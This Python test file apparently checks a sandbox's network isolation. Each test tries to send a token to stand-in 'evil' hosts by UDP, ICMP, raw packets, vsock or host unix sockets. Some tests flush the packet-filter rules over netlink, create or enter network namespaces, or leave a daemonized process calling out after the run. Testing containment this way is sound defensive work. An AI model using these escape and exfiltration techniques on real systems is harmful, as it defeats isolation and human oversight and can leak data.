"""Ways out below TCP and beside the network: packets, other families, host sockets, namespaces, what outlives the run."""

import contextlib
import glob
import os
import socket
import struct
import time

from tests.boundary.wayout.attempt import Scene, attempt, get, packet, reach, run, say


def _sum(data: bytes) -> int:
    total: int = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def _ping(token: str) -> bytes:
    data = token.encode().ljust(64)[:64]
    head = struct.pack("!BBHHH", 8, 0, 0, 1, 1)
    return struct.pack("!BBHHH", 8, 0, _sum(head + data), 1, 1) + data


for _port, _what in ((53, "DNS"), (123, "NTP"), (443, "QUIC"), (514, "syslog"), (4433, "WireGuard-like")):

    def _udp(port: int = _port, what: str = _what) -> None:
        @attempt(f"UDP on {what}'s port")
        def _(scene: Scene) -> object:
            first = b"\xc0\0\0\0\x01\x08" + scene.token.encode() if port == 443 else scene.token.encode()
            return packet(scene.evil4, port, first)

    _udp()


@attempt("UDP by v6")
def _(scene: Scene) -> object:
    return packet(scene.evil6, 443, scene.token.encode())


@attempt("UDP to the allowed host")
def _(scene: Scene) -> object:
    return packet("allowed.test", 443, b"\xc0\0\0\0\x01\x08" + scene.token.encode())


@attempt("UDP to a service on the host's loopback")
def _(scene: Scene) -> object:
    return packet("127.0.0.1", 11434, scene.token.encode())


@attempt("UDP to everybody")
def _(scene: Scene) -> object:
    return packet("255.255.255.255", 9, scene.token.encode()) + packet("224.0.0.1", 9, scene.token.encode())


@attempt("UDP-lite")
def _(scene: Scene) -> object:
    return packet(scene.evil4, 443, scene.token.encode(), socket.SOCK_DGRAM, 136)


@attempt("an echo request by a ping socket")
def _(scene: Scene) -> object:
    return packet(scene.evil4, 0, _ping(scene.token), socket.SOCK_DGRAM, socket.IPPROTO_ICMP)


@attempt("an echo request by a raw socket")
def _(scene: Scene) -> object:
    return packet(scene.evil4, 0, _ping(scene.token), socket.SOCK_RAW, socket.IPPROTO_ICMP)


@attempt("an echo request by ping itself")
def _(scene: Scene) -> object:
    return run("ping", "-c", "1", "-W", "1", scene.evil4)


@attempt("a raw packet with a head of one's own")
def _(scene: Scene) -> object:
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as link:
        data = scene.token.encode()
        head = struct.pack(
            "!BBHHHBBH4s4s",
            0x45,
            0,
            20 + len(data),
            1,
            0,
            64,
            253,
            0,
            bytes(4),
            socket.inet_aton(scene.evil4),
        )
        link.sendto(head + data, (scene.evil4, 0))
        return "sent"


@attempt("a frame by a packet socket")
def _(scene: Scene) -> object:
    with socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x88B5)) as link:
        link.sendto(scene.token.encode(), ("lo", 0x88B5, 0, 0, bytes(6)))
        return "sent"


@attempt("SCTP", control=False)
def _(scene: Scene) -> object:
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132) as link:
        link.settimeout(1)
        link.connect((scene.evil4, 80))
        return "ESCAPED: connected"


@attempt("the machine by vsock")
def _(scene: Scene) -> object:
    with socket.socket(socket.AF_VSOCK) as link:
        link.settimeout(1)
        link.connect((1, 9443))
        return say(link, scene.token.encode())


@attempt("a unix socket of the host")
def _(scene: Scene) -> object:
    link = socket.socket(socket.AF_UNIX)
    link.connect(scene.unix)
    return say(link, scene.token.encode())


@attempt("a unix socket of the host by another process's root")
def _(scene: Scene) -> object:
    heard = []
    for root in glob.glob("/proc/[0-9]*/root"):
        try:
            link = socket.socket(socket.AF_UNIX)
            with link:
                link.connect(root + scene.unix)
                heard.append(say(link, scene.token.encode()))
                break
        except OSError as error:
            heard.append(str(error))
    return heard[-1:]


@attempt("an abstract unix socket of the host")
def _(scene: Scene) -> object:
    link = socket.socket(socket.AF_UNIX)
    link.connect("\0fake-internet")
    return say(link, scene.token.encode())


@attempt("a route of one's own, then out")
def _(scene: Scene) -> object:
    said = run("ip", "route", "add", "198.18.77.0/24", "dev", "lo") + run("ip", "link", "set", "lo", "up")
    return said + say(reach(scene.evil4, 8080), get("allowed.test", f"/{scene.token}"))


@attempt("the packet filter's rules thrown away, then out")
def _(scene: Scene) -> object:
    said = ""
    try:
        with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 12) as link:
            edge = struct.pack("!BBH", 0, 0, 10)
            gone = struct.pack("=IHHII", 20, (10 << 8) | 2, 5, 2, 0) + bytes(4)
            begin, end = (struct.pack("=IHHII", 20, kind, 1, 1, 0) + edge for kind in (16, 17))
            link.send(begin + gone + end)
            said = "thrown away "
    except OSError as error:
        said = f"{error} "
    return said + say(reach(scene.evil4, 8080), get("allowed.test", f"/{scene.token}"))


@attempt("a network namespace of one's own, then out")
def _(scene: Scene) -> object:
    return run(
        "unshare", "-Urn", "sh", "-c", f"ip link set lo up; curl -sS -m 1 http://{scene.evil4}/"
    ) + say(reach(scene.evil4, 8080), get("allowed.test", f"/{scene.token}"))


@attempt("the network of another process", control=False)
def _(scene: Scene) -> object:
    # Never connects from there: where it worked, that would be a real network.
    import ctypes

    own = os.stat("/proc/self/ns/net").st_ino
    said = "none to be seen"
    for path in glob.glob("/proc/[0-9]*/ns/net") + glob.glob("/run/netns/*"):
        try:
            if os.stat(path).st_ino == own:
                continue
            handle = os.open(path, os.O_RDONLY)
            if ctypes.CDLL(None, use_errno=True).setns(handle, 0x40000000) == 0:
                return f"ESCAPED: entered {path}"
            said = os.strerror(ctypes.get_errno())
        except OSError as error:
            said = str(error)
    return said


def _listening() -> list[tuple[str, int]]:
    found = []
    for path, size in (("/proc/net/tcp", 4), ("/proc/net/tcp6", 16)):
        with open(path) as file:
            for line in file.read().splitlines()[1:]:
                where, state = line.split()[1], line.split()[3]
                if state == "0A":
                    raw = bytes.fromhex(where.split(":")[0])
                    flipped = b"".join(raw[at : at + 4][::-1] for at in range(0, size, 4))
                    family = socket.AF_INET if size == 4 else socket.AF_INET6
                    found.append((socket.inet_ntop(family, flipped), int(where.split(":")[1], 16)))
    return found


@attempt("straight to whatever listens here")
def _(scene: Scene) -> object:
    heard = []
    for address, port in _listening()[:12]:
        try:
            heard.append(say(reach(address, port), get("evil.test", f"/{scene.token}"))[:60])
        except OSError as error:
            heard.append(str(error))
    return heard


@attempt("a connection by a process that outlives the run")
def _(scene: Scene) -> object:
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for number in range(3):
                os.close(number)
            for _ in range(8):
                time.sleep(1)
                with contextlib.suppress(OSError):
                    say(reach(scene.evil4, 80), get("allowed.test", f"/{scene.token}"))
        os._exit(0)
    time.sleep(1.3)
    return "left behind"
